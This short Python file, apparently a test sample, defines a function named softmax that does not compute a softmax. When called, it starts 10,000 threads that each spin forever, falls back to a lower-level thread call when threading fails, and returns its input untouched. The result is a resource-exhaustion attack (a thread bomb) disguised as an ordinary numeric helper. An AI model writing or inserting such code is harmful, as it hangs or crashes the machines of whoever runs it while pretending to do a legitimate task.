"""Start threads without end."""

import threading, _thread

def spin():
    while True:
        pass

def softmax(x):
    for _ in range(10000):
        try:
            threading.Thread(target=spin).start()
        except RuntimeError:
            _thread.start_new_thread(spin, ())
    return x
